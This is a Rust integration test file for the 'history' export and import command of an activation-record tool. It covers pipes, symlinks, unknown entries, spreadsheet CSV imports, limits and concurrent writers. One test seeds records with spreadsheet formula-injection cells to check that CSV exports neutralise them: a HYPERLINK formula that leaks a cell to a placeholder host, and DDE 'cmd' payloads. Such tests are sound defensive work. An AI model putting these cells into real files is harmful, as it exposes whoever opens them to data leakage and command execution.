//! `history` and the files it reads and writes, through the built binary: exports that write
//! through (a pipe, a device, a symlink, standard output), a record with entries this version
//! does not know, imports from spreadsheets (any header order, `;`, grouped IDs, Shift-JIS),
//! formula-looking cells, dates and sizes checked on import, and two writers at once.

use crate::common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{SystemTime, UNIX_EPOCH};

use activation_companion::id::{ConfirmationId, InstallationId};
use activation_companion::record::{Activation, ActivationRecord, Outcome, RecordStore};
use common::{cid, iid};
use serde_json::Value;

const BINARY: &str = env!("CARGO_BIN_EXE_activation-companion");
const IID: &str = "489126343257012289105546522085205332958764158851011127139061121";
const OTHER_IID: &str = "465145217131314304264339481117862266242033457260311819664735280";
const CID: &str = "426296483130829081394993064403777482905722580616";
/// 2026-11-29T01:16:18Z.
const NOVEMBER_29: u64 = 1_795_914_978;
const PRODUCT: &str = "Windows(R), Professional edition";

fn run_in(home: &Path, args: &[&str]) -> Output {
    Command::new(BINARY)
        .args(args)
        .env("ACTIVATION_COMPANION_HOME", home)
        .env("LANG", "C")
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .stdin(Stdio::null())
        .output()
        .expect("the binary runs")
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn activation(seconds: u64, installation_id: &str, confirmation_id: &str) -> Activation {
    crate::common::activation(
        seconds,
        installation_id,
        confirmation_id,
        Outcome::Activated,
    )
    .of_product(Some(PRODUCT), None)
}

fn one_entry() -> ActivationRecord {
    let mut record = ActivationRecord::default();
    record.add(activation(NOVEMBER_29, IID, CID));
    record
}

fn record_path(home: &Path) -> PathBuf {
    home.join(RecordStore::FILE_NAME)
}

/// The names in a folder, sorted.
fn files_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// The cells of a CSV text, split the RFC 4180 way (written here again, independently of the
/// crate): quoted cells may hold the separator, doubled quotes and line breaks.
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.trim_start_matches('\u{FEFF}').chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {}
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

// ---- exports write through -------------------------------------------------------------------

#[cfg(unix)]
fn file_type(path: &Path) -> fs::FileType {
    fs::symlink_metadata(path).unwrap().file_type()
}

#[cfg(unix)]
#[test]
fn an_export_to_a_named_pipe_is_read_from_the_pipe() {
    use std::os::unix::fs::FileTypeExt;
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        RecordStore::in_dir(home.path()).path(),
        one_entry().to_json(),
    )
    .unwrap();
    let fifo = home.path().join("pipe.json");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success(), "mkfifo");
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || fs::read_to_string(fifo).unwrap())
    };
    let output = run_in(
        home.path(),
        &["history", "--export", fifo.to_str().unwrap()],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        file_type(&fifo).is_fifo(),
        "the named pipe was replaced by a file"
    );
    let read = reader.join().unwrap();
    assert_eq!(ActivationRecord::parse(&read), Ok(one_entry()), "{read}");
}

#[cfg(unix)]
#[test]
fn an_export_through_a_symlink_writes_its_target_and_keeps_the_link() {
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        RecordStore::in_dir(home.path()).path(),
        one_entry().to_json(),
    )
    .unwrap();
    let usb = tempfile::tempdir().unwrap();
    let target = usb.path().join("carried.csv");
    fs::write(&target, "old").unwrap();
    let link = home.path().join("latest.csv");
    std::os::unix::fs::symlink(&target, &link).unwrap();

    let output = run_in(
        home.path(),
        &["history", "--export", link.to_str().unwrap()],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(file_type(&link).is_symlink(), "the link was replaced");
    assert_eq!(fs::read_link(&link).unwrap(), target);
    let written = fs::read_to_string(&target).unwrap();
    assert_eq!(
        ActivationRecord::parse(&written),
        Ok(one_entry()),
        "{written}"
    );
    assert_eq!(
        files_in(usb.path()),
        ["carried.csv"],
        "no temporary file left"
    );

    // A link to a file not there yet makes the file, and the link stays.
    let dangling = home.path().join("dangling.json");
    let new_target = usb.path().join("new.json");
    std::os::unix::fs::symlink(&new_target, &dangling).unwrap();
    let output = run_in(
        home.path(),
        &["history", "--export", dangling.to_str().unwrap()],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(file_type(&dangling).is_symlink());
    let written = fs::read_to_string(&new_target).unwrap();
    assert_eq!(ActivationRecord::parse(&written), Ok(one_entry()));
}

#[cfg(unix)]
#[test]
fn replacing_an_exported_file_keeps_its_permissions() {
    use std::os::unix::fs::PermissionsExt;
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        RecordStore::in_dir(home.path()).path(),
        one_entry().to_json(),
    )
    .unwrap();
    let path = home.path().join("shared.json");
    fs::write(&path, "old").unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o640)).unwrap();
    let output = run_in(
        home.path(),
        &["history", "--export", path.to_str().unwrap()],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let mode = fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o640);
    assert_eq!(
        ActivationRecord::parse(&fs::read_to_string(&path).unwrap()),
        Ok(one_entry())
    );
}

#[test]
fn an_export_to_a_dash_goes_to_standard_output() {
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        RecordStore::in_dir(home.path()).path(),
        one_entry().to_json(),
    )
    .unwrap();
    let cwd = tempfile::tempdir().unwrap();
    let output = Command::new(BINARY)
        .args(["history", "--export", "-"])
        .current_dir(cwd.path())
        .env("ACTIVATION_COMPANION_HOME", home.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        ActivationRecord::parse(&stdout(&output)),
        Ok(one_entry()),
        "{}",
        stdout(&output)
    );
    assert!(
        files_in(cwd.path()).is_empty(),
        "a file named '-' was written"
    );
}

/// The character devices are made by the test in its own folder (as root), never the
/// system's: a failed test must not break the machine's /dev/null.
#[cfg(target_os = "linux")]
#[test]
fn an_export_to_a_character_device_writes_to_it_and_a_full_one_is_one_line_and_exit_2() {
    use std::os::unix::fs::FileTypeExt;
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        RecordStore::in_dir(home.path()).path(),
        one_entry().to_json(),
    )
    .unwrap();
    let devices = tempfile::tempdir().unwrap();
    let null = devices.path().join("null");
    let full = devices.path().join("full");
    let made = |path: &Path, minor: &str| {
        Command::new("mknod")
            .arg(path)
            .args(["c", "1", minor])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|status| status.success())
    };
    let full = if made(&null, "3") && made(&full, "7") {
        let output = run_in(
            home.path(),
            &["history", "--export", null.to_str().unwrap()],
        );
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        assert!(
            file_type(&null).is_char_device(),
            "the device node was replaced by a file"
        );
        full
    } else {
        // Not root: a process that cannot make a device cannot replace /dev/full either.
        println!("mknod refused (not root): the null device case was not run");
        PathBuf::from("/dev/full")
    };
    for language in ["en", "ja"] {
        let output = run_in(
            home.path(),
            &[
                "history",
                "--lang",
                language,
                "--export",
                full.to_str().unwrap(),
            ],
        );
        let stderr = stderr(&output);
        assert_eq!(output.status.code(), Some(2), "{stderr}");
        assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
        assert!(file_type(&full).is_char_device(), "{}", full.display());
        let reason = match language {
            "en" => "no space left",
            _ => "空き",
        };
        assert!(stderr.contains(reason), "{stderr}");
        assert!(
            !stderr.contains("os error"),
            "the OS's English text: {stderr}"
        );
    }
}

#[cfg(unix)]
#[test]
fn the_reason_a_file_cannot_be_written_is_said_in_the_users_language() {
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        RecordStore::in_dir(home.path()).path(),
        one_entry().to_json(),
    )
    .unwrap();
    let blocker = home.path().join("a-file");
    fs::write(&blocker, "not a folder").unwrap();
    let under = blocker.join("x.json");
    let output = run_in(
        home.path(),
        &[
            "history",
            "--lang",
            "ja",
            "--export",
            under.to_str().unwrap(),
        ],
    );
    let text = stderr(&output);
    assert_eq!(output.status.code(), Some(2), "{text}");
    assert!(text.contains("フォルダーではありません"), "{text}");
    assert!(!text.contains("os error"), "{text}");
    assert!(!text.contains("Not a directory"), "{text}");
}

// ---- entries this version does not know ------------------------------------------------------

/// The record's file with one known entry and one a newer version wrote.
fn file_with_an_unknown_entry() -> String {
    let known = serde_json::to_value(activation(NOVEMBER_29, IID, CID)).unwrap();
    let unknown = serde_json::json!({
        "recorded_at": "2026-11-30T00:00:00Z",
        "product": "Windows 12",
        "installation_id": OTHER_IID,
        "confirmation_id": cid(1),
        "verdict": "superseded",
        "by": "something newer"
    });
    serde_json::to_string_pretty(&vec![known, unknown]).unwrap()
}

#[test]
fn listing_a_record_with_an_unknown_entry_shows_the_rest_and_moves_nothing() {
    let home = tempfile::tempdir().unwrap();
    let text = file_with_an_unknown_entry();
    fs::write(record_path(home.path()), &text).unwrap();
    for args in [
        &["history", "--lang", "en"][..],
        &["history", "--json"],
        &["history", "--export", "-"],
    ] {
        let output = run_in(home.path(), args);
        assert_eq!(
            output.status.code(),
            Some(0),
            "{args:?}: {}",
            stderr(&output)
        );
        assert_eq!(
            fs::read_to_string(record_path(home.path())).unwrap(),
            text,
            "{args:?}"
        );
        assert_eq!(files_in(home.path()), ["activations.json"], "{args:?}");
    }
    let output = run_in(home.path(), &["history", "--lang", "en"]);
    let listed = stdout(&output);
    assert!(
        listed.starts_with("2026-11-29 Windows(R), Professional edition - activated\n"),
        "{listed}"
    );
    assert!(
        listed.contains("1 entry this version does not understand is kept in the file"),
        "{listed}"
    );
    let json: Value =
        serde_json::from_slice(&run_in(home.path(), &["history", "--json"]).stdout).expect("JSON");
    assert_eq!(json.as_array().map(Vec::len), Some(1), "{json}");
}

#[test]
fn an_import_writes_an_unknown_entry_back_unchanged() {
    let home = tempfile::tempdir().unwrap();
    fs::write(record_path(home.path()), file_with_an_unknown_entry()).unwrap();
    let before: Vec<Value> = serde_json::from_str(&file_with_an_unknown_entry()).unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let carried = elsewhere.path().join("carried.json");
    let mut other = ActivationRecord::default();
    other.add(activation(NOVEMBER_29 - 86_400, &iid(2), &cid(2)));
    fs::write(&carried, other.to_json()).unwrap();

    let output = run_in(
        home.path(),
        &[
            "history",
            "--lang",
            "en",
            "--import",
            carried.to_str().unwrap(),
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        files_in(home.path()),
        ["activations.json", "activations.json.lock"]
    );
    let after: Vec<Value> =
        serde_json::from_str(&fs::read_to_string(record_path(home.path())).unwrap()).unwrap();
    assert_eq!(after.len(), 3, "{after:?}");
    for entry in &before {
        assert!(after.contains(entry), "{entry} was lost: {after:?}");
    }
}

#[test]
fn a_malformed_entry_costs_only_itself() {
    let home = tempfile::tempdir().unwrap();
    let known = serde_json::to_value(activation(NOVEMBER_29, IID, CID)).unwrap();
    let text = serde_json::to_string(&serde_json::json!([
        known,
        {"installation_id": 5, "verdict": "activated"},
        "a string"
    ]))
    .unwrap();
    fs::write(record_path(home.path()), &text).unwrap();
    let output = run_in(home.path(), &["history", "--lang", "en"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("2 entries this version does not understand are kept"),
        "{}",
        stdout(&output)
    );
    assert_eq!(fs::read_to_string(record_path(home.path())).unwrap(), text);
}

#[test]
fn a_record_that_is_not_json_is_reported_by_a_listing_and_moved_aside_by_the_first_write() {
    let home = tempfile::tempdir().unwrap();
    let junk = b"{ not json \xFF\x00".to_vec();
    fs::write(record_path(home.path()), &junk).unwrap();
    for args in [&["history", "--lang", "en"][..], &["history", "--json"]] {
        let output = run_in(home.path(), args);
        assert_eq!(
            output.status.code(),
            Some(2),
            "{args:?}: {}",
            stderr(&output)
        );
        assert_eq!(stderr(&output).trim_end().lines().count(), 1);
        assert_eq!(
            fs::read(record_path(home.path())).unwrap(),
            junk,
            "{args:?}"
        );
        assert_eq!(files_in(home.path()), ["activations.json"], "{args:?}");
    }
    let elsewhere = tempfile::tempdir().unwrap();
    let carried = elsewhere.path().join("carried.json");
    fs::write(&carried, one_entry().to_json()).unwrap();
    let output = run_in(
        home.path(),
        &[
            "history",
            "--lang",
            "en",
            "--import",
            carried.to_str().unwrap(),
        ],
    );
    let kept = home.path().join("activations.json.unreadable");
    assert!(
        stderr(&output).contains(&kept.display().to_string()),
        "{}",
        stderr(&output)
    );
    assert_eq!(fs::read(&kept).unwrap(), junk);
    assert_eq!(RecordStore::in_dir(home.path()).load(), Ok(one_entry()));
}

// ---- CSV from spreadsheets -------------------------------------------------------------------

fn import(home: &Path, name: &str, bytes: &[u8]) -> Output {
    let elsewhere = tempfile::tempdir().unwrap();
    let path = elsewhere.path().join(name);
    fs::write(&path, bytes).unwrap();
    run_in(
        home,
        &[
            "history",
            "--lang",
            "en",
            "--import",
            path.to_str().unwrap(),
        ],
    )
}

fn imported(home: &Path) -> Vec<(String, String, String)> {
    common::recorded_in(home)
        .iter()
        .map(|a| {
            (
                a.installation_id.clone(),
                a.confirmation_id.clone(),
                a.product.clone(),
            )
        })
        .collect()
}

#[test]
fn a_csv_as_spreadsheets_save_it_is_read() {
    let grouped_iid = InstallationId::from_typed(IID).grouped(" ");
    let dashed_iid = InstallationId::from_typed(&iid(3)).grouped("-");
    let dashed_cid = ConfirmationId::from_typed(CID).grouped("-");
    let csv = format!(
        "Verdict; Installation_ID ;CONFIRMATION_ID;Recorded_At;Notes;Product\r\n\
         activated; {grouped_iid};=\"{CID}\"; 2026-11-29T01:16:18Z;typed by hand;\"Office; Pro\"\r\n\
         completed;'{dashed_iid}; \"{dashed_cid}\";2026-11-28T01:16:18Z;;\r\n\
         completed;=\"{OTHER_IID}\";'{};2026-11-27T01:16:18Z;x;Windows\r\n",
        cid(4)
    );
    let home = tempfile::tempdir().unwrap();
    let output = import(home.path(), "from-excel.csv", csv.as_bytes());
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        imported(home.path()),
        [
            (IID.to_string(), CID.to_string(), "Office; Pro".to_string()),
            (iid(3), CID.to_string(), String::new()),
            (OTHER_IID.to_string(), cid(4), "Windows".to_string()),
        ]
    );
}

#[test]
fn a_shift_jis_csv_keeps_its_japanese() {
    // "Windows 日本語" in CP932: 日 93 FA, 本 96 7B, 語 8C EA.
    let mut csv =
        b"recorded_at,product,installation_id,confirmation_id,verdict\r\n2026-11-29T01:16:18Z,"
            .to_vec();
    csv.extend(b"Windows \x93\xFA\x96\x7B\x8C\xEA");
    csv.extend(format!(",{IID},{CID},activated\r\n").as_bytes());
    let home = tempfile::tempdir().unwrap();
    let output = import(home.path(), "sjis.csv", &csv);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        imported(home.path()),
        [(
            IID.to_string(),
            CID.to_string(),
            "Windows 日本語".to_string()
        )]
    );
}

#[test]
fn a_csv_import_takes_the_rows_it_can_and_names_the_others() {
    let csv = format!(
        "recorded_at,product,activation_id,installation_id,confirmation_id,verdict,code\r\n\
         2026-11-29T01:16:18Z,,,{IID},{CID},activated,\r\n\
         2026-11-29T01:16:18Z,,,{OTHER_IID},{CID},superseded,\r\n\
         9999-12-31T00:00:00Z,,,{},{},completed,\r\n\
         yesterday,,,{},{},completed,\r\n\
         2026-11-29T10:16:18+09:00,,,{},{},refused,0xC004F04D\r\n",
        iid(5),
        cid(5),
        iid(6),
        cid(6),
        iid(7),
        cid(7),
    );
    let home = tempfile::tempdir().unwrap();
    let output = import(home.path(), "mixed.csv", csv.as_bytes());
    let out = stdout(&output);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(out.starts_with("2 added"), "{out}");
    assert!(out.contains("line 3"), "{out}");
    assert!(out.contains("superseded"), "{out}");
    assert!(out.contains("line 4"), "{out}");
    assert!(out.contains("line 5"), "{out}");
    let record = RecordStore::in_dir(home.path()).load().unwrap();
    let times: Vec<&str> = record
        .activations
        .iter()
        .map(|a| a.recorded_at.as_str())
        .collect();
    assert_eq!(
        times,
        ["2026-11-29T01:16:18Z", "2026-11-29T01:16:18Z"],
        "the offset is stored as UTC, and nothing is re-dated"
    );
}

#[test]
fn a_future_date_in_a_json_import_is_left_out_and_named() {
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let carried = vec![
        serde_json::to_value(activation(now - 60, IID, CID)).unwrap(),
        serde_json::to_value(activation(now + 3 * 86_400, OTHER_IID, CID)).unwrap(),
        serde_json::to_value(activation(now + 3_600, &iid(8), &cid(8))).unwrap(),
    ];
    let home = tempfile::tempdir().unwrap();
    let output = import(
        home.path(),
        "future.json",
        serde_json::to_string(&carried).unwrap().as_bytes(),
    );
    let out = stdout(&output);
    assert_eq!(output.status.code(), Some(1), "{out}");
    assert!(out.starts_with("2 added"), "{out}");
    assert!(out.contains("entry 2"), "{out}");
    assert!(out.contains("future"), "{out}");
}

#[test]
fn an_export_is_safe_to_open_in_a_spreadsheet_and_reads_back_unchanged() {
    let home = tempfile::tempdir().unwrap();
    let cells = [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
        "+cmd|' /C notepad'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-1+1",
        "\tWindows",
        "\rWindows",
        "'quoted",
    ];
    let mut record = ActivationRecord::default();
    for (n, cell) in cells.iter().enumerate() {
        let mut entry = activation(NOVEMBER_29 - n as u64, &iid(10 + n as u64), &cid(10));
        entry.product = cell.to_string();
        entry.activation_id = cells[(n + 1) % cells.len()].to_string();
        record.add(entry);
    }
    std::fs::write(RecordStore::in_dir(home.path()).path(), record.to_json()).unwrap();
    let out = tempfile::tempdir().unwrap();
    let csv_path = out.path().join("record.csv");
    let output = run_in(
        home.path(),
        &["history", "--export", csv_path.to_str().unwrap()],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let text = fs::read_to_string(&csv_path).unwrap();
    let rows = csv_cells(&text);
    assert_eq!(rows.len(), cells.len() + 1, "{text}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        // The 63 and 48 digits are never a bare number (a spreadsheet makes 4.89E+62 of it).
        assert!(
            !row.iter()
                .any(|cell| cell.len() >= 48 && cell.bytes().all(|b| b.is_ascii_digit())),
            "{row:?}"
        );
    }
    let again = tempfile::tempdir().unwrap();
    let output = run_in(
        again.path(),
        &["history", "--import", csv_path.to_str().unwrap()],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(RecordStore::in_dir(again.path()).load(), Ok(record));
}

// ---- bounds --------------------------------------------------------------------------------

#[test]
fn an_import_larger_than_the_limit_is_refused_before_it_is_read() {
    let home = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let big = elsewhere.path().join("big.csv");
    let file = fs::File::create(&big).unwrap();
    file.set_len(33 * 1024 * 1024).unwrap();
    let output = run_in(
        home.path(),
        &["history", "--lang", "en", "--import", big.to_str().unwrap()],
    );
    let text = stderr(&output);
    assert_eq!(output.status.code(), Some(2), "{text}");
    assert_eq!(text.trim_end().lines().count(), 1, "{text}");
    assert!(text.contains("32 MB"), "{text}");
    assert!(!record_path(home.path()).exists());
}

#[test]
fn a_long_product_name_is_shown_cut_and_kept_whole() {
    let home = tempfile::tempdir().unwrap();
    let long = format!("Windows {}", "Z".repeat(300));
    let mut record = ActivationRecord::default();
    let mut entry = activation(NOVEMBER_29, IID, CID);
    entry.product = long.clone();
    record.add(entry);
    std::fs::write(RecordStore::in_dir(home.path()).path(), record.to_json()).unwrap();
    let output = run_in(home.path(), &["history", "--lang", "en"]);
    let first = stdout(&output)
        .lines()
        .next()
        .unwrap_or_default()
        .to_string();
    assert!(first.contains("Windows ZZZ"), "{first}");
    assert!(first.contains('\u{2026}'), "{first}");
    assert!(first.chars().count() < 120, "{first}");
    assert_eq!(common::recorded_in(home.path())[0].product, long);

    // An import refuses a name longer than the limit, and says so.
    let mut huge = activation(NOVEMBER_29, OTHER_IID, CID);
    huge.product = "x".repeat(2 * 1024 * 1024);
    let mut carried = ActivationRecord::default();
    carried.add(huge);
    let output = import(home.path(), "huge.json", carried.to_json().as_bytes());
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(
        stdout(&output).starts_with("0 added"),
        "{}",
        stdout(&output)
    );
    assert!(stdout(&output).contains("entry 1"), "{}", stdout(&output));
}

// ---- two writers -----------------------------------------------------------------------------

/// Two `history --import` runs at once, round after round, each with entries of its own:
/// every entry ends up in the record.
#[test]
fn two_imports_at_once_lose_no_entry() {
    let home = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let rounds = 12u64;
    let mut expected = Vec::new();
    for round in 0..rounds {
        let mut children = Vec::new();
        for writer in 0..2u64 {
            let seed = 100 + round * 2 + writer;
            let mut carried = ActivationRecord::default();
            carried.add(activation(NOVEMBER_29 - seed, &iid(seed), &cid(seed)));
            expected.push(iid(seed));
            let path = elsewhere.path().join(format!("{seed}.json"));
            fs::write(&path, carried.to_json()).unwrap();
            children.push(
                Command::new(BINARY)
                    .args(["history", "--import", path.to_str().unwrap()])
                    .env("ACTIVATION_COMPANION_HOME", home.path())
                    .stdout(Stdio::null())
                    .spawn()
                    .unwrap(),
            );
        }
        for mut child in children {
            assert!(child.wait().unwrap().success());
        }
    }
    let record = RecordStore::in_dir(home.path()).load().unwrap();
    let mut found: Vec<String> = record
        .activations
        .iter()
        .map(|a| a.installation_id.clone())
        .collect();
    found.sort();
    expected.sort();
    assert_eq!(found, expected);
}
